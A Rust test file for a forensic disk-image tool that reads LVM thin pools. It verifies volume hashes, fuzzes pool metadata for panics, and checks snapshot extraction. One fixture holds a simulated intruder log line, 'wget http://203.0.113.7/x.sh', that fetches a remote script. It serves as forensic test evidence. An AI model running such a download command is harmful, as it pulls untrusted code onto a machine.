//! LVM thin pools (images/build-lvm-thin.py: the volume group's metadata by
//! LVM's own tools, the pool's metadata by thin_restore, checked with
//! thin_check and thin_dump): each thin volume reads, byte for byte, as the
//! standalone filesystem image placed in the pool (its sha256 in
//! images/expected/lvm-thin.tsv), a damaged pool never panics or hangs.

use crate::common::*;
use sha2::{Digest, Sha256};
use snapsift::evidence::Source;
use snapsift::volume::{Volume, discover_set};
use std::sync::Arc;
use std::time::{Duration, Instant};

fn thin_volumes(bytes: Vec<u8>) -> (Vec<Volume>, Vec<String>) {
    let disk: Source = Arc::new(bytes);
    let mut vs = discover_set(&[disk], Default::default()).remove(0);
    let problems = vs.warnings.iter().cloned().chain(vs.failed.iter().map(|(v, why)| format!("{v}: {why}"))).collect();
    vs.volumes.retain(|v| v.lv.is_some());
    (vs.volumes, problems)
}

fn sha_of(src: &Source) -> std::io::Result<String> {
    let mut h = Sha256::new();
    let mut buf = vec![0u8; 1 << 20];
    let mut off = 0;
    while off < src.len() {
        let n = src.read_at(off, &mut buf)?;
        assert!(n > 0, "short read at {off}");
        h.update(&buf[..n]);
        off += n as u64;
    }
    Ok(format!("{:x}", h.finalize()))
}

#[test]
fn thin_volumes_read_as_the_filesystems_put_in() {
    let (vols, problems) = thin_volumes(std::fs::read(image("lvm-thin")).unwrap());
    let want = tsv(&repo().join("images/expected/lvm-thin.tsv"));
    assert_eq!(vols.len(), want.len(), "{problems:?}");
    for row in want {
        let v = vols.iter().find(|v| v.lv.as_deref() == Some(row["lv"].as_str())).unwrap_or_else(|| panic!("{} missing", row["lv"]));
        assert_eq!(v.size.to_string(), row["size"], "{}", row["lv"]);
        assert_eq!(sha_of(&v.source).unwrap(), row["sha256"], "{}", row["lv"]);
    }
}

/// Bytes flipped in the pool's metadata (superblock, B-tree nodes) and
/// data: a thin volume reads or fails with a reason, never a panic or hang.
#[test]
fn damaged_thin_pools_never_panic() {
    let clean = std::fs::read(image("lvm-thin")).unwrap();
    // The pool's metadata volume is the VG's first 4 extents, after the
    // PV's 1 MiB of label and metadata, on the partition at 1 MiB.
    let meta = (2 << 20)..(6 << 20);
    let seeds = campaign("THIN_FUZZ_SEEDS", 24, 96);
    let mut refused = 0;
    for seed in 1..=seeds {
        let mut rng = Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1);
        let mut img = clean.clone();
        for _ in 0..1 + rng.next() % 6 {
            // Mostly the metadata blocks in use (the first few), sometimes anywhere in it.
            let span = if rng.next().is_multiple_of(3) { meta.len() } else { 64 << 10 };
            let at = meta.start + (rng.next() % span as u64) as usize;
            img[at] ^= 1 << (rng.next() % 8);
        }
        let t = Instant::now();
        let (vols, problems) = thin_volumes(img);
        for v in &vols {
            refused += usize::from(sha_of(&v.source).is_err());
        }
        refused += problems.len();
        assert!(t.elapsed() < Duration::from_secs(10), "seed {seed}: {:?}", t.elapsed());
    }
    assert!(refused > 0, "no damage was ever noticed");
}

/// The thin snapshot of /var is an older copy of the logs: extracted, with
/// /var's targets, under `<host>/_snapshots/<vg-lv>/var/…`, beside the
/// machine's /var as it was last (contents as build-lvm-thin.py put them in).
#[test]
fn a_thin_snapshot_of_var_is_extracted_beside_it() {
    let case = tempfile::tempdir().unwrap();
    let out = extract(&[&image("lvm-thin")], case.path());
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let host = case.path().join("Host-Based Logs/thin01");
    let read = |p: &str| std::fs::read_to_string(host.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
    let first = "May  1 00:00:00 thin01 sshd[1]: Accepted publickey for admin\n";
    assert_eq!(read("var/log/auth.log"), format!("{first}May  1 00:59:00 thin01 sshd[2]: Accepted password for root from 203.0.113.7\n"));
    assert_eq!(read("var/log/intruder.log"), "wget http://203.0.113.7/x.sh\n");
    let snap = "_snapshots/vg0-var_snap_var/var/log";
    assert_eq!(read(&format!("{snap}/auth.log")), first);
    assert!(!host.join(snap).join("intruder.log").exists());
    let syslog: String = (0..3000)
        .map(|i| format!("May  1 00:{:02}:{:02} thin01 app[{}]: request {i} served\n", i / 60 % 60, i % 60, 100 + i % 7))
        .collect();
    assert_eq!(read(&format!("{snap}/syslog")), syslog);
    assert_eq!(read("var/log/syslog"), syslog);
    let rows = manifest(case.path());
    assert!(rows.iter().any(|r| r["volume"] == "vg0-var_snap" && r["image_path"] == "/log/auth.log"), "{rows:?}");
}
